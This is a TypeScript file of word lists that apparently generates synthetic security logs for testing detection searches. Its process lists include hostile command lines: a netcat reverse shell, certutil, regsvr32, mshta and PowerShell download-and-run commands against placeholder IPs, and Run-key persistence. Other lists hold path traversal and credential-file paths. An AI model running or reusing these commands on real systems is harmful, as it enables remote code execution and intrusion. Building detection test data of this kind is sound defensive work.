/**
 * Word lists for generated events. Each list puts its most common values
 * first (lists are picked with a skew), and mixes routine activity with the
 * suspicious kind detections look for, so a generated database gives
 * security_content searches something to find and something to ignore.
 */

export interface ProcessEntry {
  readonly name: string;
  readonly path: string;
  readonly commandLine: string;
}

const WIN = 'C:\\Windows\\System32\\';

export const PROCESSES: readonly ProcessEntry[] = [
  { name: 'svchost.exe', path: `${WIN}svchost.exe`, commandLine: `${WIN}svchost.exe -k netsvcs -p -s Schedule` },
  { name: 'cmd.exe', path: `${WIN}cmd.exe`, commandLine: 'cmd.exe /c whoami /all' },
  { name: 'powershell.exe', path: `${WIN}WindowsPowerShell\\v1.0\\powershell.exe`, commandLine: 'powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=' },
  { name: 'chrome.exe', path: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', commandLine: '"chrome.exe" --type=renderer --lang=en-US' },
  { name: 'explorer.exe', path: 'C:\\Windows\\explorer.exe', commandLine: 'C:\\Windows\\explorer.exe' },
  { name: 'bash', path: '/usr/bin/bash', commandLine: '/bin/bash -c id' },
  { name: 'rundll32.exe', path: `${WIN}rundll32.exe`, commandLine: 'rundll32.exe C:\\Users\\Public\\update.dll,DllRegisterServer' },
  { name: 'curl', path: '/usr/bin/curl', commandLine: 'curl -fsSL http://198.51.100.7/install.sh' },
  { name: 'net.exe', path: `${WIN}net.exe`, commandLine: 'net.exe user /domain' },
  { name: 'reg.exe', path: `${WIN}reg.exe`, commandLine: 'reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d C:\\Users\\Public\\update.exe' },
  { name: 'schtasks.exe', path: `${WIN}schtasks.exe`, commandLine: 'schtasks.exe /create /tn Updater /tr C:\\Users\\Public\\update.exe /sc daily' },
  { name: 'wmic.exe', path: `${WIN}wbem\\WMIC.exe`, commandLine: 'wmic.exe process call create "cmd.exe /c calc.exe"' },
  { name: 'certutil.exe', path: `${WIN}certutil.exe`, commandLine: 'certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe' },
  { name: 'python3', path: '/usr/bin/python3', commandLine: 'python3 -c \'import pty; pty.spawn("/bin/bash")\'' },
  { name: 'sshd', path: '/usr/sbin/sshd', commandLine: 'sshd: root@pts/0' },
  { name: 'regsvr32.exe', path: `${WIN}regsvr32.exe`, commandLine: 'regsvr32.exe /s /n /u /i:http://203.0.113.9/file.sct scrobj.dll' },
  { name: 'mshta.exe', path: `${WIN}mshta.exe`, commandLine: 'mshta.exe javascript:a=GetObject("script:http://203.0.113.9/x.sct").Exec();close();' },
  { name: 'wget', path: '/usr/bin/wget', commandLine: 'wget -q -O /tmp/.x http://198.51.100.7/x' },
  { name: 'whoami.exe', path: `${WIN}whoami.exe`, commandLine: 'whoami.exe /priv' },
  { name: 'nc', path: '/usr/bin/nc', commandLine: 'nc -e /bin/sh 198.51.100.7 4444' },
];

export const PARENT_PROCESSES: readonly ProcessEntry[] = [
  { name: 'explorer.exe', path: 'C:\\Windows\\explorer.exe', commandLine: 'C:\\Windows\\explorer.exe' },
  { name: 'services.exe', path: `${WIN}services.exe`, commandLine: `${WIN}services.exe` },
  { name: 'cmd.exe', path: `${WIN}cmd.exe`, commandLine: 'cmd.exe /c start.bat' },
  { name: 'systemd', path: '/usr/lib/systemd/systemd', commandLine: '/sbin/init' },
  { name: 'winword.exe', path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', commandLine: '"WINWORD.EXE" /n "C:\\Users\\alice\\Downloads\\invoice.docm"' },
  { name: 'powershell.exe', path: `${WIN}WindowsPowerShell\\v1.0\\powershell.exe`, commandLine: 'powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a\')' },
  { name: 'wmiprvse.exe', path: `${WIN}wbem\\WmiPrvSE.exe`, commandLine: `${WIN}wbem\\wmiprvse.exe -Embedding` },
  { name: 'sshd', path: '/usr/sbin/sshd', commandLine: 'sshd: alice [priv]' },
  { name: 'bash', path: '/usr/bin/bash', commandLine: '-bash' },
];

export const USERS: readonly string[] = ['alice', 'bob', 'SYSTEM', 'svc_backup', 'root', 'administrator', 'jsmith', 'carol', 'ubuntu', 'NETWORK SERVICE', 'dave', 'guest', 'svc_sql', 'eve', 'mallory'];

export const DOMAIN_NAMES: readonly string[] = ['ACME', 'NT AUTHORITY', 'WORKGROUP', 'acme.local'];

export const HOSTS: readonly string[] = ['ws-001', 'ws-002', 'dc01', 'web-prod-01', 'db-01', 'ws-finance-07', 'mail-01', 'fs-01', 'jump-01', 'build-02', 'laptop-alice', 'kiosk-3'];

export const DNS_NAMES: readonly string[] = [
  'www.google.com', 'login.microsoftonline.com', 'github.com', 'update.microsoft.com', 'outlook.office365.com', 'cdn.jsdelivr.net',
  'api.slack.com', 'www.wikipedia.org', 'raw.githubusercontent.com', 'pastebin.com', 'ngrok.io', 'update-check.xyz', 'x7f3k2p9q.top',
  'aGVsbG8gd29ybGQgZnJvbSBkbnM.tunnel.example.net', 'dc01.acme.local', 'wpad.acme.local',
];

export const URL_PATHS: readonly string[] = ['/', '/index.html', '/api/v1/login', '/search?q=splunk', '/wp-login.php', '/images/logo.png', '/download/setup.exe', '/../../etc/passwd', '/admin/config.php?cmd=id', '/favicon.ico'];

export const USER_AGENTS: readonly string[] = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15',
  'curl/8.5.0', 'python-requests/2.32.3', 'Microsoft-CryptoAPI/10.0', 'sqlmap/1.8', 'Go-http-client/1.1',
];

export const FILE_PATHS: readonly string[] = [
  'C:\\Users\\alice\\Documents\\report.docx', 'C:\\Windows\\Temp\\install.ps1', 'C:\\Users\\Public\\update.exe', '/etc/passwd', '/tmp/.x',
  'C:\\Users\\bob\\AppData\\Local\\Temp\\invoice.exe', 'C:\\Windows\\System32\\drivers\\etc\\hosts', '/var/www/html/shell.php',
  'C:\\ProgramData\\svc.bat', '/home/ubuntu/.ssh/authorized_keys', 'C:\\Windows\\System32\\config\\SAM', 'C:\\Users\\carol\\Desktop\\README.txt',
];

export const REGISTRY_PATHS: readonly string[] = [
  'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\SecurityHealth',
  'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
  'HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend\\Start',
  'HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\DisableRestrictedAdmin',
  'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware',
  'HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command\\DelegateExecute',
  'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell',
];

export const SIGNATURES: Readonly<Record<string, readonly string[]>> = {
  Intrusion_Detection: ['ET SCAN Nmap Scripting Engine User-Agent Detected', 'ET POLICY SMB2 NT Create AndX Request For an Executable File', 'ET TROJAN Possible Cobalt Strike Beacon', 'ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)', 'ET WEB_SERVER SQL Injection Attempt'],
  Malware: ['EICAR-Test-File', 'Trojan:Win32/Emotet', 'Backdoor:Win64/CobaltStrike', 'HackTool:Win32/Mimikatz', 'Ransom:Win32/LockBit'],
  Updates: ['KB5044284', 'KB5043064', 'KB890830', 'KB5043936'],
  Vulnerabilities: ['OpenSSL < 3.0.7 Multiple Vulnerabilities', 'MS17-010: Security Update for Microsoft Windows SMB Server', 'Apache Log4j < 2.15.0 RCE', 'SSL Certificate Cannot Be Trusted'],
  Authentication: ['An account was successfully logged on', 'An account failed to log on', 'A Kerberos authentication ticket (TGT) was requested', 'Accepted password for user', 'Failed password for user'],
};

export const VENDOR_PRODUCTS: Readonly<Record<string, readonly string[]>> = {
  Network_Traffic: ['Palo Alto Networks Firewall', 'Cisco ASA', 'Zeek'],
  Authentication: ['Microsoft Windows', 'Linux sshd', 'Okta Identity Cloud'],
  Endpoint: ['Microsoft Sysmon', 'CrowdStrike Falcon', 'Microsoft Windows'],
  Network_Resolution: ['Splunk Stream', 'Zeek', 'Microsoft DNS'],
  Web: ['Blue Coat ProxySG', 'Zscaler', 'Apache'],
  Intrusion_Detection: ['Suricata', 'Snort', 'Palo Alto Networks Threat'],
  Malware: ['Microsoft Defender Antivirus', 'Symantec Endpoint Protection'],
  Email: ['Microsoft Exchange', 'Proofpoint'],
};

export const SOURCETYPES: Readonly<Record<string, readonly string[]>> = {
  Network_Traffic: ['pan:traffic', 'cisco:asa', 'bro:conn:json'],
  Authentication: ['XmlWinEventLog:Security', 'linux_secure', 'OktaIM2:log'],
  Endpoint: ['XmlWinEventLog:Microsoft-Windows-Sysmon/Operational', 'crowdstrike:events:sensor', 'XmlWinEventLog:Security'],
  Network_Resolution: ['stream:dns', 'bro:dns:json'],
  Web: ['bluecoat:proxysg:access:syslog', 'zscalernss-web', 'access_combined'],
  Intrusion_Detection: ['suricata', 'snort', 'pan:threat'],
  Malware: ['WinEventLog:Microsoft-Windows-Windows Defender/Operational', 'symantec:ep:risk:file'],
  Email: ['MSExchange:2013:MessageTracking', 'pps_messagelog'],
  Change: ['XmlWinEventLog:Security', 'aws:cloudtrail'],
  Risk: ['stash'],
  Splunk_Audit: ['audittrail'],
};

export const MITRE_TECHNIQUES: readonly string[] = ['T1059.001', 'T1003.001', 'T1021.002', 'T1566.001', 'T1071.001', 'T1547.001', 'T1218.011', 'T1110.001'];
export const MITRE_TACTIC_IDS: readonly string[] = ['TA0002', 'TA0006', 'TA0008', 'TA0001', 'TA0011', 'TA0003', 'TA0005'];
export const MITRE_TACTICS: readonly string[] = ['execution', 'credential-access', 'lateral-movement', 'initial-access', 'command-and-control', 'persistence', 'defense-evasion'];
export const CVES: readonly string[] = ['CVE-2021-44228', 'CVE-2017-0144', 'CVE-2023-23397', 'CVE-2022-22965', 'CVE-2024-3400', 'CVE-2020-1472'];
